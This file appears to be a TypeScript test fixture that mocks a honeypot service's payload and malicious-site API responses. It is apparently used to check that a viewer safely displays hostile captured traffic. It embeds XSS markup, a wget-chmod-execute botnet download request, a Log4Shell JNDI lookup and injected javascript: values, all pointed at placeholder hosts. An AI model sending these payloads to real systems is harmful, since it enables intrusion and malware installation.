/** Payloads as a server would tell them: exploits as they are seen on darknets, and some that try what they can on who reads them. */

const FIRST = '2026-01-31T12:00:03.000Z';
const LAST = '2026-01-31T12:00:58.000Z';

/** A right-to-left override in UTF-8, ESC, NUL, bytes above ASCII. */
export const MARKUP =
  '<script>window.hacked=1</script><img src=x onerror="window.hacked=1"><a href="http://192.0.2.66/">x</a>\u202egnp.exe\u001b[31m\u0000\u00ff';
const TELNET =
  'GET /shell?cd+/tmp;wget+http://192.0.2.66/bins/arm7;chmod+777+arm7;./arm7 HTTP/1.1\r\nHost: 198.51.100.7\r\n\r\n';
const LOG4J = `GET / HTTP/1.1\r\nUser-Agent: \${\${lower:j}ndi:ldap://192.0.2.77:1389/Exploit}\r\nAccept: */*\r\n\r\n`;

interface Made {
  readonly bytes: Buffer;
  readonly protocol: 'tcp' | 'udp' | '1';
  readonly packets: number;
  readonly ports: readonly number[];
  readonly sources: number;
  readonly sites?: number;
  readonly wireBytes?: number;
}

const made: readonly Made[] = [
  {
    bytes: Buffer.from(MARKUP),
    protocol: 'tcp',
    packets: 90_210,
    ports: [80, 8080, 81, 8081],
    sources: 1_204,
    sites: 1,
  },
  { bytes: Buffer.from(TELNET), protocol: 'tcp', packets: 12_345, ports: [80], sources: 310, sites: 1 },
  { bytes: Buffer.from(LOG4J), protocol: 'tcp', packets: 480, ports: [8080, 443], sources: 12, sites: 1 },
  {
    bytes: Buffer.from('001e0006 00000001'.replace(' ', ''), 'hex'),
    protocol: 'udp',
    packets: 333,
    ports: [123],
    sources: 41,
  },
  {
    bytes: Buffer.alloc(512, 0xa5),
    protocol: 'udp',
    packets: 12,
    ports: [53, 5353, 161],
    sources: 3,
    wireBytes: 1_400,
  },
  { bytes: Buffer.alloc(0), protocol: '1', packets: 1, ports: [], sources: 1, wireBytes: 56 },
];

export const payloads = made.map(({ bytes, protocol, packets, ports, sources, sites = 0, wireBytes }, at) => {
  const wire = wireBytes ?? bytes.length;
  const digest = `${at}123456789abcdef`.slice(0, 16);
  return {
    id: `${digest}-${protocol === 'tcp' ? 6 : protocol === 'udp' ? 17 : 1}-${wire}`,
    digest,
    protocol,
    bytes: wire,
    captured: Math.min(wire, 1_000),
    kept: bytes.length,
    packets,
    first: FIRST,
    last: LAST,
    ports,
    morePorts: ports.length > 3,
    sources,
    sensors: ['tokyo-1', '大阪\u202e2'],
    sites,
    hex: bytes.toString('hex'),
  };
});

const site = { first: FIRST, last: LAST, sensors: ['tokyo-1'], sample: ['203.0.113.5'], cut: false };
export const sites = [
  {
    ...site,
    url: 'hxxp[:]//192[.]0[.]2[.]66/bins/arm7',
    host: '192[.]0[.]2[.]66',
    tool: 'wget',
    steps: ['plus'],
    packets: 12_345,
    payloads: 3,
    sources: 310,
    ids: [payloads[1]!.id],
  },
  {
    ...site,
    url: 'ldap[:]//192[.]0[.]2[.]77:1389/Exploit',
    host: '192[.]0[.]2[.]77:1389',
    tool: 'jndi',
    steps: ['percent', 'lookups', 'base64'],
    cut: true,
    packets: 480,
    payloads: 1,
    sources: 12,
    ids: [payloads[2]!.id],
  },
  // A server that does what it should not.
  {
    ...site,
    url: `http://192.0.2.66/<img src=x onerror="window.hacked=1">\u202e`,
    host: '192.0.2.66',
    tool: '<b>curl</b>',
    steps: ['<i>rot13</i>'],
    packets: 3,
    payloads: 1,
    sources: 1,
    ids: ['javascript:alert(1)'],
  },
];

const span = { session: 1, from: FIRST, to: LAST };
const account = { present: 103_381, expired: 12, givenUp: 0 };

/** JSON by path: the lists, and the first four payloads. */
export const payloadAnswers: Readonly<Record<string, string>> = {
  '/api/v1/payloads': JSON.stringify({ ...span, total: 8, payloads, account }),
  '/api/v1/malicious-sites': JSON.stringify({ ...span, total: 3, sites }),
  ...Object.fromEntries(
    payloads.map((payload, at) => [
      `/api/v1/payloads/${payload.id}`,
      JSON.stringify({
        ...payload,
        sample: ['203.0.113.5', '2001:db8::9', '<b>nobody</b>'],
        siteList: at === 0 ? [sites[2]] : at < 3 ? [sites[at - 1]] : [],
      }),
    ]),
  ),
};

export const noPayloads: Readonly<Record<string, string>> = {
  '/api/v1/payloads': JSON.stringify({
    ...span,
    total: 0,
    payloads: [],
    account: { present: 0, expired: 0, givenUp: 0 },
  }),
  '/api/v1/malicious-sites': JSON.stringify({ ...span, total: 0, sites: [] }),
};
